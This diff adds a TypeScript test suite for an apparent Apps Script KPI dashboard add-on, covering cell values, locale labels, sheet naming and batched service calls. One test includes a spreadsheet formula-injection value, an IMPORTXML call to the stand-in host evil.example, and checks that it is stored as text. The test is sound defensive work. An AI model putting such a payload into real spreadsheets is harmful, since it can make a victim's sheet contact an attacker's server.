@@ -1,0 +1,154 @@
+/**
+ * Inserting the dashboard as Apps Script runs it: the built dist/server.js in a node:vm with
+ * only the fake services, calling the generated top-level entry points.
+ */
+import { buildDashboard, kpiA1, monthSerial, sampleDashboard } from '../../src/layout/dashboard';
+import type { FakeAppsScript } from '../fake';
+import { loadBundle } from '../support/bundle';
+import { examplePlan } from '../support/plans';
+import { fakeWithLocale } from './support/appsScript';
+import { evaluate } from './support/engine';
+
+function run(entryPoint: string, fake: FakeAppsScript = fakeWithLocale(), ...args: unknown[]) {
+  const runtime = loadBundle(fake.globals);
+  fake.log.reset();
+  const name = runtime.call(entryPoint, ...args) as string;
+  // The calls of the insert itself, before the test reads anything back.
+  const calls = { document: fake.log.documentCalls, byName: fake.log.countsByName() };
+  const sheet = fake.SpreadsheetApp.getActiveSpreadsheet().getSheetByName(name);
+  if (!sheet) throw new Error(`no sheet ${name}`);
+  return { fake, name, sheet, runtime, calls };
+}
+
+describe('insertKpiDashboardWithSample from the built bundle', () => {
+  test('the sheet computes what the layout computes, cell for cell', () => {
+    const { name, sheet } = run('insertKpiDashboardWithSample');
+    expect(name).toBe('KPI Dashboard');
+    const { layout, map } = buildDashboard({ ...sampleDashboard, language: 'en' });
+    const expected = evaluate(layout)[layout.name];
+    for (const cell of map.kpiCells) {
+      expect([cell.a1, sheet.getRange(cell.a1).getValue()]).toEqual([
+        cell.a1,
+        expected.value(cell.a1),
+      ]);
+    }
+    expect(sheet.getRange(kpiA1(map, 'cac', 0)).getValue()).toBe(4000);
+    expect(sheet.getRange(kpiA1(map, 'ltvCac', 0)).getDisplayValue()).toBe('4.8x');
+  });
+
+  test('health colours and charts are on the sheet', () => {
+    const { sheet } = run('insertKpiDashboardWithSample');
+    expect(sheet.getConditionalFormatRules().length).toBeGreaterThan(0);
+    expect(sheet.getCharts()).toHaveLength(3);
+    expect(sheet.getConditionalFormatRules()).toHaveLength(2);
+  });
+
+  test('never overwrites an existing sheet: a second insert writes "KPI Dashboard (2)"', () => {
+    const fake = fakeWithLocale('en_US', { sheetNames: ['Sheet1', 'KPI Dashboard'] });
+    const existing = fake.SpreadsheetApp.getActiveSpreadsheet().getSheetByName('KPI Dashboard');
+    existing?.getRange('A1:B2').setValues([
+      ['Our own KPIs', 42],
+      ['=B1*2', "'keep"],
+    ]);
+    const before = existing?.getRange('A1:Z60').getFormulas();
+    const beforeValues = existing?.getRange('A1:Z60').getValues();
+    const { name } = run('insertKpiDashboard', fake);
+    expect(name).toBe('KPI Dashboard (2)');
+    expect(existing?.getRange('A1:Z60').getFormulas()).toEqual(before);
+    expect(existing?.getRange('A1:Z60').getValues()).toEqual(beforeValues);
+    expect(existing?.getConditionalFormatRules()).toHaveLength(0);
+  });
+
+  test('the spreadsheet locale picks the labels: zh_TW gives Traditional Chinese', () => {
+    const { name, sheet } = run('insertKpiDashboard', fakeWithLocale('zh_TW'));
+    expect(name).toBe('KPI 儀表板');
+    expect(sheet.getRange('A6').getValue()).toBe('月份');
+  });
+
+  test('an empty dashboard starts this month and shows no error anywhere', () => {
+    const { sheet } = run('insertKpiDashboard');
+    const today = new Date();
+    expect(sheet.getRange('A7').getValue()).toBe(
+      monthSerial(today.getFullYear(), today.getMonth() + 1),
+    );
+    expect(sheet.getRange('A7:A8').getNumberFormats()).toEqual([['mmm yyyy'], ['mmm yyyy']]);
+    const shown = sheet.getDataRange().getDisplayValues().flat();
+    expect(shown.filter((text) => text.startsWith('#'))).toEqual([]);
+  });
+});
+
+describe('plan vs actual from the bundle', () => {
+  test('with the goal calculator of the last plan: its cells are referenced and computed', () => {
+    const fake = fakeWithLocale();
+    const runtime = loadBundle(fake.globals);
+    runtime.call('buildGoalCalculator', examplePlan);
+    runtime.call('saveLastPlan', examplePlan);
+    const name = runtime.call('insertKpiDashboard') as string;
+    const sheet = fake.SpreadsheetApp.getActiveSpreadsheet().getSheetByName(name);
+    const formulas = sheet?.getDataRange().getFormulas().flat() ?? [];
+    expect(formulas.some((formula) => formula.includes("'Goal Calculator'!"))).toBe(true);
+    const shown = sheet?.getDataRange().getDisplayValues().flat() ?? [];
+    expect(shown).toContain('Leads plan');
+    expect(shown.filter((text) => text.startsWith('#'))).toEqual([]);
+  });
+
+  test('without one (or when its stages no longer match the last plan): no reference, a note instead', () => {
+    const fake = fakeWithLocale();
+    const runtime = loadBundle(fake.globals);
+    runtime.call('buildGoalCalculator', examplePlan);
+    // The last plan has one stage fewer than the sheet that is there.
+    runtime.call('saveLastPlan', {
+      ...examplePlan,
+      stages: [examplePlan.stages[0], ...examplePlan.stages.slice(2)],
+    });
+    const name = runtime.call('insertKpiDashboard') as string;
+    const sheet = fake.SpreadsheetApp.getActiveSpreadsheet().getSheetByName(name);
+    const formulas = sheet?.getDataRange().getFormulas().flat() ?? [];
+    expect(formulas.filter((formula) => formula.includes('!'))).toEqual([]);
+    expect(sheet?.getDataRange().getValues().flat()).toContain(
+      'Plan vs actual: insert a goal calculator, then a new dashboard, to compare each month with the plan.',
+    );
+  });
+
+  test('a hostile stage name reaches the dashboard as text, never as a formula', () => {
+    const hostile = '=IMPORTXML("http://evil.example/", "//a")';
+    const plan = { ...examplePlan, stages: [...examplePlan.stages.slice(0, 4), { name: hostile }] };
+    const fake = fakeWithLocale();
+    const runtime = loadBundle(fake.globals);
+    runtime.call('buildGoalCalculator', plan);
+    runtime.call('saveLastPlan', plan);
+    const name = runtime.call('insertKpiDashboard') as string;
+    const sheet = fake.SpreadsheetApp.getActiveSpreadsheet().getSheetByName(name);
+    expect(sheet?.getDataRange().getValues().flat()).toContain(`${hostile} plan`);
+  });
+});
+
+describe('batching: a constant number of service calls, whatever the number of months', () => {
+  const callsFor = (entryPoint: string, months: number, fake = fakeWithLocale()) =>
+    run(entryPoint, fake, { monthCount: months }).calls;
+  const withGoal = () => {
+    const fake = fakeWithLocale();
+    const runtime = loadBundle(fake.globals);
+    runtime.call('buildGoalCalculator', examplePlan);
+    runtime.call('saveLastPlan', examplePlan);
+    return fake;
+  };
+
+  test('with sample data: the same calls for 12 and 36 months, at most 25', () => {
+    const twelve = callsFor('insertKpiDashboardWithSample', 12);
+    expect(callsFor('insertKpiDashboardWithSample', 36)).toEqual(twelve);
+    expect(twelve.byName['Range.setValues']).toBe(1);
+    expect(twelve.document).toBeLessThanOrEqual(25);
+  });
+
+  test('empty: two more to read the last plan, and three more to check its goal calculator', () => {
+    const sample = callsFor('insertKpiDashboardWithSample', 12).document;
+    const empty = callsFor('insertKpiDashboard', 12);
+    expect(callsFor('insertKpiDashboard', 36)).toEqual(empty);
+    expect(empty.document).toBe(sample + 2);
+    const linked = callsFor('insertKpiDashboard', 12, withGoal());
+    expect(callsFor('insertKpiDashboard', 36, withGoal())).toEqual(linked);
+    // getSheetByName, getRange and getValues of the stage names; no locale (the plan has a language).
+    expect(linked.document).toBe(empty.document + 3 - 1);
+  });
+});
